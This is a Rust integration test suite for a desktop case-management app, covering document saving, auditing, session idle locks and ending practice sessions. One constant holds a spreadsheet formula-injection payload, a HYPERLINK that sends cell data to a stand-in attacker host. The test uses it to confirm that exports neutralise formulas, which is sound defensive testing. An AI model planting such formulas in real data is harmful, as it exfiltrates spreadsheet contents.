//! Issue 19, part 8, through the running app (mock runtime, real data
//! directory, real store): a saved document is audited and private, no
//! exported spreadsheet cell runs as a formula, the session expires in Rust
//! after the idle lock, and an administrator can end a practice session no
//! one else can.

use serde_json::{json, Value};
use tauri::ipc::{CallbackFn, InvokeBody};
use tauri::test::{get_ipc_response, mock_builder, MockRuntime, INVOKE_KEY};
use tauri::webview::InvokeRequest;
use tauri::{App, Manager, WebviewWindow};

struct Mock {
    app: App<MockRuntime>,
    window: WebviewWindow<MockRuntime>,
}

const PASSWORD: &str = "window-pass";

fn services() -> onewindow_lib::backoffice::ServiceOptions {
    let store: std::sync::Arc<keyring_core::CredentialStore> =
        keyring_core::mock::Store::new().unwrap();
    onewindow_lib::backoffice::ServiceOptions {
        key: offline_cache::KeySource::Store {
            store: store.clone(),
            account: "cases".into(),
        },
        token_store: Some(store),
        backoffice: onewindow_lib::backoffice::BackOfficeSetting::Demo,
        interval: std::time::Duration::from_millis(200),
        standards_dir: onewindow_lib::config::ShippedFolders::find(None)
            .root
            .join("standards"),
        background: false,
        store: offline_cache::StoreOptions::default(),
    }
}

fn start_with(
    data_dir: &std::path::Path,
    services: &onewindow_lib::backoffice::ServiceOptions,
) -> Mock {
    let specta = onewindow_lib::mock_specta_builder();
    let app = onewindow_lib::with_app(mock_builder(), specta.clone(), Some(data_dir.to_path_buf()))
        .build(onewindow_lib::context())
        .expect("the app builds with the mock runtime");
    onewindow_lib::start(&app, &specta, Some(data_dir.to_path_buf()), Some(services))
        .expect("start-up succeeds");
    let window = tauri::WebviewWindowBuilder::new(&app, "main", Default::default())
        .build()
        .expect("a mock window");
    Mock { app, window }
}

fn invoke(mock: &Mock, command: &str, arguments: Value) -> Result<Value, Value> {
    get_ipc_response(
        &mock.window,
        InvokeRequest {
            cmd: command.into(),
            callback: CallbackFn(0),
            error: CallbackFn(1),
            url: "tauri://localhost".parse().unwrap(),
            body: InvokeBody::Json(arguments),
            headers: Default::default(),
            invoke_key: INVOKE_KEY.to_string(),
        },
    )
    .map(|body| body.deserialize::<Value>().expect("a JSON answer"))
}

/// Makes the first administrator and one account per role (the trainee
/// `evil` is a clerk whose name is a spreadsheet formula), then signs in.
fn sign_in_as(mock: &Mock, login: &str) {
    let status = invoke(mock, "session_status", json!({})).expect("session_status answers");
    if status["first_start"] == true {
        invoke(
            mock,
            "create_first_admin",
            json!({ "login": "admin", "displayName": "管理员", "password": PASSWORD }),
        )
        .expect("the first administrator is made");
        for (other, role, name) in [
            ("clerk", "clerk", "clerk 示例"),
            ("supervisor", "supervisor", "supervisor 示例"),
            ("trainer", "trainer", "trainer 示例"),
            ("evil", "clerk", EVIL_NAME),
        ] {
            invoke(
                mock,
                "create_account",
                json!({ "login": other, "displayName": name, "role": role, "password": PASSWORD }),
            )
            .expect("the administrator makes the accounts");
        }
    }
    invoke(
        mock,
        "sign_in",
        json!({ "login": login, "password": PASSWORD }),
    )
    .expect("the account signs in");
}

const EVIL_NAME: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"成绩\")";

fn state(mock: &Mock) -> tauri::State<'_, onewindow_lib::state::AppState> {
    mock.app.state::<onewindow_lib::state::AppState>()
}

fn store(mock: &Mock) -> std::sync::Arc<offline_cache::CaseStore<offline_cache::Production>> {
    state(mock)
        .service()
        .expect("the store is open")
        .store
        .clone()
}

fn audit(mock: &Mock, action: &'static str) -> Vec<(String, String, String)> {
    tauri::async_runtime::block_on(store(mock).read(move |connection| {
        let mut statement = connection.prepare(
            "SELECT actor, subject, detail FROM audit_log WHERE action = ?1 ORDER BY seq",
        )?;
        let rows =
            statement.query_map([action], |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)))?;
        Ok(rows.collect::<Result<_, _>>()?)
    }))
    .unwrap()
}

/// A committed case of the sample (applicant 张三), with its receipt issued.
fn case_with_receipt(mock: &Mock) -> (String, String) {
    let forms_dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../forms");
    let catalog = forms::load_catalog(&forms_dir.join("catalog")).unwrap();
    let calendar = forms::calendar::WorkingCalendar::load_dir(&forms_dir.join("calendar")).unwrap();
    let proposal = serde_json::to_value(
        onewindow_lib::print::sample::proposal(
            &catalog,
            &calendar,
            forms::decision::DecisionKind::Accept,
        )
        .unwrap(),
    )
    .unwrap();
    let (item, values) = backoffice_sim::sample_intakes().remove(0);
    let mut intake = offline_cache::sample::intake(
        &uuid::Uuid::new_v4().to_string(),
        7,
        chrono::Local::now().fixed_offset(),
        0,
        0,
    );
    intake.applicant.profile.id_type = Some("111".into());
    intake.values =
        std::collections::BTreeMap::from([(item.to_owned(), values.as_object().unwrap().clone())]);
    intake.item_versions = std::collections::BTreeMap::from([(item.to_owned(), 1)]);
    intake.sub_cases = std::collections::BTreeMap::from([(
        "market-registration".to_owned(),
        vec![item.to_owned()],
    )]);
    intake.materials = Vec::new();
    intake.proposal = proposal;
    let case_id = intake.case_id.clone();
    tauri::async_runtime::block_on(store(mock).record_intake(intake)).unwrap();
    let view = invoke(
        mock,
        "issue_document",
        json!({ "caseId": case_id, "kind": "acceptance_receipt" }),
    )
    .expect("issue_document answers");
    (case_id, view["number"].as_str().unwrap().to_owned())
}

#[cfg(unix)]
#[test]
fn a_saved_document_is_private_whole_and_audited_without_applicant_data() {
    use std::os::unix::fs::PermissionsExt;
    let root = tempfile::tempdir().unwrap();
    let mock = start_with(root.path(), &services());
    sign_in_as(&mock, "clerk");
    let (case_id, number) = case_with_receipt(&mock);
    assert!(audit(&mock, "document.saved").is_empty());

    let saved = invoke(
        &mock,
        "save_document",
        json!({ "caseId": case_id, "number": number }),
    )
    .expect("save_document answers");
    let path = std::path::PathBuf::from(saved.as_str().unwrap());
    assert!(std::fs::read(&path).unwrap().starts_with(b"%PDF"));
    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the saved PDF is for this account only");
    let folder = path.parent().unwrap();
    let left: Vec<_> = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    assert_eq!(left.len(), 1, "no temporary file is left: {left:?}");

    let entries = audit(&mock, "document.saved");
    assert_eq!(entries.len(), 1, "{entries:?}");
    let (actor, subject, detail) = &entries[0];
    let clerk_id = state(&mock).session.get().unwrap().user.id;
    assert_eq!(actor, &clerk_id);
    assert_eq!(subject, &case_id);
    let detail: Value = serde_json::from_str(detail).unwrap();
    assert_eq!(detail["number"], number.as_str());
    assert_eq!(
        detail["file"],
        path.file_name().unwrap().to_str().unwrap(),
        "{detail}"
    );
    let facts = tauri::async_runtime::block_on(store(&mock).document_facts(&case_id)).unwrap();
    let text = detail.to_string();
    assert!(
        !text.contains(&facts.applicant_name) && !text.contains(&facts.applicant_identifier),
        "no applicant data in the audit entry: {text}"
    );

    // A number the case does not have saves nothing and records nothing.
    let unknown = invoke(
        &mock,
        "save_document",
        json!({ "caseId": case_id, "number": "no-such-number" }),
    )
    .unwrap_err();
    assert_eq!(unknown["code"], "bad_input", "{unknown}");
    assert_eq!(audit(&mock, "document.saved").len(), 1);
}

#[test]
fn a_trainees_name_that_is_a_formula_is_exported_as_text() {
    let root = tempfile::tempdir().unwrap();
    let mock = start_with(root.path(), &services());
    sign_in_as(&mock, "trainer");
    invoke(&mock, "start_practice", json!({ "traineeLogin": "evil" })).unwrap();
    sign_in_as(&mock, "evil");
    invoke(
        &mock,
        "start_scenario",
        json!({ "scenarioId": "economic-company-complete" }),
    )
    .unwrap();
    invoke(&mock, "finish_scenario", json!({ "keystrokes": 3 })).unwrap();
    sign_in_as(&mock, "trainer");
    let exported = invoke(&mock, "export_practice_results", json!({})).unwrap();
    let path = exported.as_str().unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600);
    }
    let mut reader = csv::Reader::from_path(path).unwrap();
    let trainees: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[1].to_owned())
        .collect();
    assert_eq!(trainees, [format!("'{EVIL_NAME}")]);
}

fn search(mock: &Mock) -> Result<Value, Value> {
    invoke(mock, "search_catalog", json!({ "query": "公司" }))
}

fn minutes(count: u64) -> std::time::Duration {
    std::time::Duration::from_secs(count * 60)
}

fn target_draft(mock: &Mock) -> Option<String> {
    state(mock).devices.capture_target().draft_id
}

#[test]
fn a_session_idle_past_the_idle_lock_is_locked_in_rust_whatever_the_window_does() {
    let root = tempfile::tempdir().unwrap();
    let mock = start_with(root.path(), &services());
    sign_in_as(&mock, "clerk");
    let slot = &state(&mock).session;
    // Every command that needs a session is activity: 4 + 4 minutes with a
    // command between them stays open (the default idle lock is 5).
    slot.advance_clock(minutes(4));
    search(&mock).expect("active after 4 minutes");
    slot.advance_clock(minutes(4));
    invoke(&mock, "note_activity", json!({})).expect("the window's input counts");
    slot.advance_clock(minutes(4));
    search(&mock).expect("still active");
    invoke(
        &mock,
        "set_capture_target",
        json!({ "draftId": "draft-1", "itemId": null, "materialId": null }),
    )
    .unwrap();
    assert_eq!(target_draft(&mock).as_deref(), Some("draft-1"));

    // Asking for the session view is not activity.
    slot.advance_clock(minutes(3));
    assert_eq!(
        invoke(&mock, "session_status", json!({})).unwrap()["locked"],
        false
    );
    slot.advance_clock(minutes(3));
    let status = invoke(&mock, "session_status", json!({})).unwrap();
    assert_eq!(status["locked"], true, "idle 6 minutes: locked by Rust");
    assert_eq!(status["user"]["role"], "clerk", "the user stays");
    assert_eq!(search(&mock).unwrap_err()["code"], "session_locked");
    assert_eq!(
        invoke(&mock, "note_activity", json!({})).unwrap_err()["code"],
        "session_locked",
        "input after the lock does not reopen it"
    );
    assert_eq!(target_draft(&mock), None, "the capture target is cleared");
    invoke(&mock, "unlock_session", json!({ "password": PASSWORD })).unwrap();
    search(&mock).expect("open again after the password");

    // The window's timed refreshes need the session but are not activity.
    slot.advance_clock(minutes(4));
    invoke(&mock, "results_ready", json!({})).expect("a refresh while active");
    slot.advance_clock(minutes(2));
    assert_eq!(
        invoke(&mock, "results_ready", json!({})).unwrap_err()["code"],
        "session_locked",
        "refreshes every few seconds do not keep the session open"
    );
    invoke(&mock, "unlock_session", json!({ "password": PASSWORD })).unwrap();

    // Without session_status in between, the next command finds it idle.
    slot.advance_clock(minutes(5) + std::time::Duration::from_secs(1));
    assert_eq!(search(&mock).unwrap_err()["code"], "session_locked");

    // The administrator's 1 minute holds in Rust too.
    sign_in_as(&mock, "admin");
    invoke(&mock, "set_idle_lock", json!({ "minutes": 1 })).unwrap();
    slot.advance_clock(std::time::Duration::from_secs(61));
    assert_eq!(
        invoke(&mock, "list_accounts", json!({})).unwrap_err()["code"],
        "session_locked"
    );
}

#[test]
fn the_capture_target_is_cleared_on_sign_out_and_lock() {
    let root = tempfile::tempdir().unwrap();
    let mock = start_with(root.path(), &services());
    sign_in_as(&mock, "clerk");
    let aim = |mock: &Mock| {
        invoke(
            mock,
            "set_capture_target",
            json!({ "draftId": "draft-1", "itemId": "x", "materialId": "y" }),
        )
        .unwrap();
        assert_eq!(target_draft(mock).as_deref(), Some("draft-1"));
    };
    aim(&mock);
    invoke(&mock, "sign_out", json!({})).unwrap();
    assert_eq!(state(&mock).devices.capture_target(), Default::default());
    sign_in_as(&mock, "clerk");
    aim(&mock);
    invoke(&mock, "lock_session", json!({})).unwrap();
    assert_eq!(state(&mock).devices.capture_target(), Default::default());
}

#[test]
fn an_idle_lock_of_zero_in_the_preferences_file_is_refused_on_load() {
    let root = tempfile::tempdir().unwrap();
    let config = root.path().join("config");
    std::fs::create_dir_all(&config).unwrap();
    let text = r#"{"language": "en", "idle_lock_minutes": 0}"#;
    std::fs::write(config.join("preferences.json"), text).unwrap();
    let mock = start_with(root.path(), &services());
    let preferences = invoke(&mock, "get_preferences", json!({})).unwrap();
    assert_eq!(preferences["idle_lock_minutes"], 5, "{preferences}");
    assert_eq!(preferences["language"], "en");
    let kept: Vec<String> = std::fs::read_dir(&config)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .filter(|name| name.starts_with("preferences.json.unreadable-"))
        .collect();
    assert_eq!(kept.len(), 1, "the bad file is kept aside");
    assert_eq!(
        std::fs::read_to_string(config.join(&kept[0])).unwrap(),
        text
    );
    // And the session locks after the default five minutes.
    sign_in_as(&mock, "clerk");
    state(&mock)
        .session
        .advance_clock(minutes(5) + std::time::Duration::from_secs(1));
    assert_eq!(search(&mock).unwrap_err()["code"], "session_locked");
}

#[test]
fn an_administrator_ends_a_practice_session_whose_store_does_not_open_and_it_is_audited() {
    let root = tempfile::tempdir().unwrap();
    let options = services();
    let mock = start_with(root.path(), &options);
    sign_in_as(&mock, "trainer");
    invoke(&mock, "start_practice", json!({ "traineeLogin": "clerk" })).unwrap();
    let marker = root.path().join("practice/session.json");
    let marked: Value = serde_json::from_str(&std::fs::read_to_string(&marker).unwrap()).unwrap();
    drop(mock);

    // The practice store is damaged: at the next start nobody can sign in,
    // so no trainer can end practice.
    let practice_cases = root.path().join("practice/cases");
    for entry in std::fs::read_dir(&practice_cases).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name == "cases.db" {
            std::fs::write(&path, vec![0x5a; 64 * 1024]).unwrap();
        } else if name.starts_with("cases.db-") {
            std::fs::remove_file(&path).unwrap();
        }
    }
    let mock = start_with(root.path(), &options);
    assert_eq!(
        invoke(&mock, "app_info", json!({})).unwrap()["mode"],
        "practice"
    );
    assert!(invoke(
        &mock,
        "sign_in",
        json!({ "login": "trainer", "password": PASSWORD })
    )
    .is_err());
    assert_eq!(
        invoke(&mock, "end_practice", json!({})).unwrap_err()["code"],
        "not_signed_in"
    );

    // Only an administrator's own password ends it.
    let end = |mock: &Mock, login: &str, password: &str| {
        invoke(
            mock,
            "end_practice_as_admin",
            json!({ "login": login, "password": password }),
        )
    };
    assert_eq!(
        end(&mock, "trainer", PASSWORD).unwrap_err()["code"],
        "not_allowed"
    );
    assert_eq!(
        end(&mock, "admin", "wrong-pass").unwrap_err()["code"],
        "sign_in_failed"
    );
    assert_eq!(
        invoke(&mock, "app_info", json!({})).unwrap()["mode"],
        "practice"
    );
    assert!(marker.exists(), "a refused attempt changes nothing");

    let back = end(&mock, "admin", PASSWORD).expect("the administrator ends practice");
    assert_eq!(back["mode"], "production");
    assert_eq!(back["user"], Value::Null, "signed out, back in real work");
    assert!(!marker.exists());
    let entries = audit(&mock, "practice.ended_by_admin");
    assert_eq!(entries.len(), 1, "audited in the real store: {entries:?}");
    let (actor, subject, detail) = &entries[0];
    let detail: Value = serde_json::from_str(detail).unwrap();
    assert_eq!(subject, marked["session_id"].as_str().unwrap());
    assert_eq!(detail["trainer_id"], marked["trainer_id"]);
    assert_eq!(detail["trainee_id"], marked["trainee_id"]);
    assert_eq!(detail["reason"], "the practice store did not open");
    sign_in_as(&mock, "admin");
    assert_eq!(&state(&mock).session.get().unwrap().user.id, actor);

    // Real work again, and it stays so after a restart.
    sign_in_as(&mock, "clerk");
    invoke(&mock, "cases_today", json!({})).expect("the real store is open");
    drop(mock);
    let mock = start_with(root.path(), &options);
    assert_eq!(
        invoke(&mock, "app_info", json!({})).unwrap()["mode"],
        "production"
    );
    assert_eq!(
        end(&mock, "admin", PASSWORD).map_err(|error| error["code"].clone()),
        Err(json!("not_practising"))
    );
}
